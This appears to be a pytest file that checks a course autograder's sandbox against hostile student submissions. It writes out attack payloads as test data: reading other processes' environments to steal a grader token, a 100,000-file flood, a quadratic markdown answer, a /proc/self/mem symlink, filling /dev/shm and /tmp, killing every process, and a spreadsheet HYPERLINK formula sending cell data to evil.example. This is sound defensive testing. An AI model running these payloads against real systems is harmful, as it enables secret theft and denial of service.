"""Grading II (issue 32): what a determined student could still do to the instructor and the class.

One grading run (module fixture) of a toy course with two honest classmates and one attacker per
finding that a grading run can show: the grader's environment read through the sandbox's PID 1,
100,000 files left behind, a written answer built to make markdown rendering quadratic, a link
to ``/proc/self/mem`` and a FIFO in the submission folder, a formula in the grade CSV, files kept
in the sandbox's memory filesystems. Each test asserts the attacker's exact points, that the
honest classmates keep theirs, that nothing outside the graded folders changed, and the one line
the instructor reads. The other findings have their own files: the written answers' script
(test_course_xss.py), the hidden checks' source (test_course_probes.py), the LMS zip
(test_course_collect.py), the forged training step (test_course_probes.py), the descriptor race
(test_course_forked_checks.py and the stress test at the end here).
"""

from __future__ import annotations

import csv
import os
import time

import nbformat
import pytest

from helpers import tree_hashes

pytest.importorskip("nbgrader")

from deepfakelab.course import toy  # noqa: E402
from deepfakelab.course.grading.answers import MAX_ANSWER_CHARS  # noqa: E402
from deepfakelab.course.sandbox.bubblewrap import Limits, availability  # noqa: E402
from deepfakelab.course.grading.grade import GradeOptions, grade_assignment  # noqa: E402
from deepfakelab.course.grading.gradebook import gradebook_digest  # noqa: E402
from deepfakelab.course.release import generate_assignment  # noqa: E402
from deepfakelab.course.grading.worker import SUBMISSION_MAX_FILES  # noqa: E402

pytestmark = pytest.mark.skipif(availability() is not None, reason=f"no sandbox here: {availability()}")

TOKEN = "instructor-token-90210"  # in the grader's environment; must never reach a student
RIGHT = toy.RIGHT["verdict_answer"]

READ_PID_1 = (
    RIGHT
    + """
import glob
for name in ["/proc/1/environ", "/proc/1/cmdline", *glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline")]:
    try:
        print(name, open(name, "rb").read().decode(errors="replace"))
    except OSError:
        pass
"""
)

MANY_FILES = (
    RIGHT
    + """
import os
os.makedirs("junk", exist_ok=True)
for i in range(100_000):
    open(f"junk/{i}.txt", "w").close()
"""
)

QUADRATIC_ANSWER = "\\begin{a}" * 20_000  # 180,000 characters: about 100 s of nbconvert's maths pattern

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'
FORMULA_ERROR = f"""def pick_frames(n_frames, every):
    raise type({FORMULA!r}, (Exception,), {{}})("see the link")"""

FILL_MEMORY = (
    RIGHT
    + """
written = {}
for folder in ("/dev/shm", "/tmp"):
    written[folder] = 0
    for i in range(6):
        try:
            with open(f"{folder}/fill{i}", "wb") as f:
                for _ in range(8):
                    f.write(b"x" * 64 * 2**20)
                    written[folder] += 64
        except OSError:
            break
print("WRITTEN", written["/dev/shm"], written["/tmp"])
"""
)

#: attacker -> (answers replaced, autograded points it must get out of 5)
ATTACKS = {
    "pid-one": ({"verdict_answer": READ_PID_1}, 5.0),
    "many-files": ({"verdict_answer": MANY_FILES}, 5.0),
    "long-answer": ({"explain_verdict": QUADRATIC_ANSWER}, 5.0),
    "proc-mem-link": ({}, 5.0),
    "formula": ({"pick_frames_answer": FORMULA_ERROR}, 1.0),
    "fill-memory": ({"verdict_answer": FILL_MEMORY}, 5.0),
}
HONEST = {"honest-1": 5.0, "honest-2": 1.0}


def _points(result: dict) -> float:
    return sum(r.points or 0.0 for r in result.cells() if not r.manual)


def _texts(folder):
    return {p: p.read_text(errors="replace") for p in folder.rglob("*") if p.is_file() and not p.is_symlink()}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    os.environ["DFL_TEST_INSTRUCTOR_TOKEN"] = TOKEN
    try:
        root = tmp_path_factory.mktemp("course")
        course = toy.build_toy_course(root, cell_timeout=60, notebook_timeout=120)
        generate_assignment(course, toy.ASSIGNMENT)
        toy.submit_answers(course, "honest-1", dict(toy.RIGHT))
        toy.submit_answers(course, "honest-2", {**toy.RIGHT, "pick_frames_answer": toy.OFF_BY_ONE})
        for student, (changes, _) in ATTACKS.items():
            toy.submit_answers(course, student, {**toy.RIGHT, **changes})
        folder = course.submitted(toy.ASSIGNMENT, "proc-mem-link")
        os.symlink("/proc/self/mem", folder / "mem.npy")
        os.mkfifo(folder / "pipe.json")
        before = {name: tree_hashes(course.root / name) for name in ("source", "hidden_checks", "submitted")}
        start = time.monotonic()
        report = grade_assignment(course, toy.ASSIGNMENT, GradeOptions(jobs=2, progress=False))
        seconds = time.monotonic() - start
        return course, report, before, seconds
    finally:
        del os.environ["DFL_TEST_INSTRUCTOR_TOKEN"]


def test_every_submission_is_graded_with_its_exact_points(attacked):
    _, report, *_ = attacked
    assert set(report.graded) == set(ATTACKS) | set(HONEST)
    for student, points in {**{s: p for s, (_, p) in ATTACKS.items()}, **HONEST}.items():
        assert _points(report.graded[student]) == points, (student, report.graded[student].notebooks)
    assert report.failed == {}, report.failed


def test_nothing_outside_the_graded_folders_changed(attacked):
    course, report, before, _ = attacked
    for name, hashes in before.items():
        assert tree_hashes(course.root / name) == hashes, f"{name}/ changed during or after grading"
    assert report.tampered is None and gradebook_digest(course.gradebook)


def test_the_graders_environment_and_mounts_never_reach_the_student(attacked):
    """Finding 2: PID 1 in the sandbox is bwrap's reaper; it carries no environment and no mount list."""
    course, *_ = attacked
    feedback = course.root / "feedback" / "pid-one" / toy.ASSIGNMENT / "toy.html"
    assert feedback.is_file()
    graded = course.autograded(toy.ASSIGNMENT, "pid-one")
    for path, text in {**_texts(graded), **_texts(feedback.parent)}.items():
        assert TOKEN not in text and "DFL_TEST_INSTRUCTOR_TOKEN" not in text, path
        assert "--ro-bind" not in text and str(course.root) not in text, path
    assert "/proc/1/cmdline bwrap" in (graded / "toy.ipynb").read_text()  # the attack ran and printed


def test_files_left_behind_are_capped_and_feedback_is_quick(attacked):
    """Finding 4: 100,000 files made nbgrader's feedback walk for hours; the graded folder keeps at most the cap."""
    course, report, _, seconds = attacked
    graded = course.autograded(toy.ASSIGNMENT, "many-files")
    assert sum(1 for p in graded.rglob("*") if p.is_file()) <= SUBMISSION_MAX_FILES + 5
    note = report.notes["many-files"]  # the kernel leaves a file or two of its own beside the junk
    assert (
        note.startswith("outputs left out of the graded folder: ")
        and f"file(s) past the limit of {SUBMISSION_MAX_FILES:,} files" in note
    ), note
    assert "honest-1" not in report.notes
    assert (course.root / "feedback" / "many-files" / toy.ASSIGNMENT / "toy.html").is_file()
    assert seconds < 300


def test_a_written_answer_is_cut_before_it_is_rendered(attacked):
    """Finding 4: 180 KB of a quadratic maths pattern held the grading thread; answers are cut at the cap."""
    course, report, *_ = attacked
    nb = nbformat.read(str(course.autograded(toy.ASSIGNMENT, "long-answer") / "toy.ipynb"), as_version=4)
    answer = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "explain_verdict")
    assert len(answer.source) < MAX_ANSWER_CHARS + 100
    assert answer.source.endswith(f"[cut at {MAX_ANSWER_CHARS:,} characters by the grader]")
    assert (course.root / "feedback" / "long-answer" / toy.ASSIGNMENT / "toy.html").is_file()
    messages = " ".join(r.message for r in report.graded["long-answer"].cells())
    assert "has 180,000 characters; the first 10,000 were kept" in messages


def test_a_link_to_proc_mem_and_a_fifo_stop_nothing(attacked):
    """Finding 5: the folder's fingerprint followed the link and died for the whole class; now both are skipped."""
    course, report, *_ = attacked
    assert "proc-mem-link" in report.graded and "proc-mem-link" not in report.failed
    graded = course.autograded(toy.ASSIGNMENT, "proc-mem-link")
    assert not (graded / "mem.npy").exists() and not (graded / "pipe.json").exists()


def test_a_formula_in_the_csv_is_text(attacked):
    """Finding 9: an exception the student named ``=HYPERLINK(...)`` was a live formula in grades-toy.csv."""
    course, *_ = attacked
    with open(course.root / "grades-toy.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()]
    formula_rows = [r for r in rows if r["student"] == "formula" and r["grade_id"] == "check_pick_frames"]
    assert formula_rows and formula_rows[0]["message"].startswith("'" + FORMULA)
    with open(course.root / "grades.csv", newline="") as f:
        assert not [c for row in csv.reader(f) for c in row if c.startswith(("=", "+", "@"))]


def test_memory_filesystems_hold_only_their_size(attacked):
    """Finding 7: /dev/shm and /tmp were tmpfs of half the host's memory each, outside every limit."""
    course, *_ = attacked
    text = (course.autograded(toy.ASSIGNMENT, "fill-memory") / "toy.ipynb").read_text()
    line = next(part for part in text.split("\\n") if part.startswith("WRITTEN") or "WRITTEN" in part)
    shm, tmp = (int(v) for v in line.split("WRITTEN")[1].split()[:2])
    limits = Limits()
    assert shm <= limits.shm_mb and tmp <= limits.tmp_mb, line


# --- stopping a run: SIGTERM loses nothing, a rerun goes on ---------------------------------------


def test_sigterm_stops_cleanly_and_a_rerun_resumes(tmp_path):
    """Finding 4: SIGTERM lost finished results; now each is recorded as it arrives and the rerun goes on."""
    import signal
    import subprocess
    import sys

    course = toy.build_toy_course(tmp_path / "course", cell_timeout=60, notebook_timeout=120)
    generate_assignment(course, toy.ASSIGNMENT)
    toy.submit_answers(course, "a-quick", dict(toy.RIGHT))
    toy.submit_answers(
        course, "b-slow", {**toy.RIGHT, "verdict_answer": RIGHT + "\nimport time\ntime.sleep(25)"}
    )
    toy.submit_answers(course, "c-later", dict(toy.RIGHT))
    command = [
        sys.executable,
        "-m",
        "deepfakelab",
        "course",
        "grade",
        toy.ASSIGNMENT,
        "--course",
        str(course.root),
        "--jobs",
        "1",
    ]
    proc = subprocess.Popen(
        command,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
    )
    journal = course.root / ".deepfakelab" / "journal" / toy.ASSIGNMENT
    deadline = time.monotonic() + 180
    while not (journal / "a-quick.json").is_file() and time.monotonic() < deadline:
        time.sleep(0.2)
    time.sleep(3)  # b-slow is running now
    proc.send_signal(signal.SIGTERM)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 130, out + err
    assert "Stopped: every result above is recorded; 2 submission(s) not graded yet (b-slow, c-later)" in out
    assert "Traceback" not in err
    with open(course.root / "grades-toy.csv", newline="") as f:
        assert {row["student"] for row in csv.DictReader(f)} == {"a-quick"}
    assert sorted(p.stem for p in journal.glob("*.json")) == ["a-quick"]

    rerun = subprocess.run(command, capture_output=True, text=True, timeout=300)
    assert rerun.returncode == 0, rerun.stdout + rerun.stderr
    assert "graded 2, unchanged since last run 1, problems 0" in rerun.stdout
    with open(course.root / "grades-toy.csv", newline="") as f:
        assert {row["student"] for row in csv.DictReader(f)} == {"a-quick", "b-slow", "c-later"}


# --- honest students beside hostile ones, graded again and again ----------------------------------

KILL_EVERYTHING = (
    RIGHT
    + """
import os, signal
for pid in sorted((int(p) for p in os.listdir("/proc") if p.isdigit()), reverse=True):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
"""
)
UNKILLABLE = (
    RIGHT
    + "\nimport time\nwhile True:\n    try:\n        time.sleep(0.05)\n    except KeyboardInterrupt:\n        pass"
)


def test_honest_students_keep_full_marks_beside_hostile_ones_every_time(tmp_path):
    """Finding 10: an honest submission lost points at random beside hostile ones (a grader fault scored as
    the student's). Three rounds, two jobs at a time: every honest one gets full marks every time."""
    course = toy.build_toy_course(tmp_path / "course", cell_timeout=3, notebook_timeout=30)
    generate_assignment(course, toy.ASSIGNMENT)
    honest = ["honest-a", "honest-b", "honest-c"]
    for student in honest:
        toy.submit_answers(course, student, dict(toy.RIGHT))
    for kind in ("loop", "memory_hog"):
        toy.make_submission(course, f"hostile-{kind}", kind)
    toy.submit_answers(course, "hostile-unkillable", {**toy.RIGHT, "verdict_answer": UNKILLABLE})
    toy.submit_answers(course, "hostile-killer", {**toy.RIGHT, "verdict_answer": KILL_EVERYTHING})
    for round_ in range(3):
        report = grade_assignment(
            course, toy.ASSIGNMENT, GradeOptions(jobs=2, force=True, progress=False, feedback=False)
        )
        for student in honest:
            assert _points(report.graded[student]) == 5.0, (round_, student, report.graded[student].notebooks)
            assert student not in report.failed, (round_, report.failed[student])
        assert _points(report.graded["hostile-loop"]) == toy.KINDS["loop"]
        assert _points(report.graded["hostile-memory_hog"]) == toy.KINDS["memory_hog"]
        assert (
            _points(report.graded["hostile-unkillable"]) == 4.0
        )  # only the cell that hung: the kernel is restarted
        assert _points(report.graded["hostile-killer"]) == 5.0


def test_feedback_after_grading_by_hand_keeps_the_policy(attacked, capsys):
    """`course feedback` rewrites the pages after formgrader (nbgrader's own command would drop the CSP)."""
    from deepfakelab.cli import main

    course, *_ = attacked
    page = course.root / "feedback" / "honest-1" / toy.ASSIGNMENT / "toy.html"
    page.unlink()
    code = main(
        [
            "course",
            "feedback",
            toy.ASSIGNMENT,
            "--course",
            str(course.root),
            "--student",
            "honest-1",
            "--student",
            "nobody",
        ]
    )
    printed = capsys.readouterr().out
    assert code == 1 and "nobody" in printed and "not graded yet" in printed
    assert page.is_file() and 'http-equiv="Content-Security-Policy"' in page.read_text()
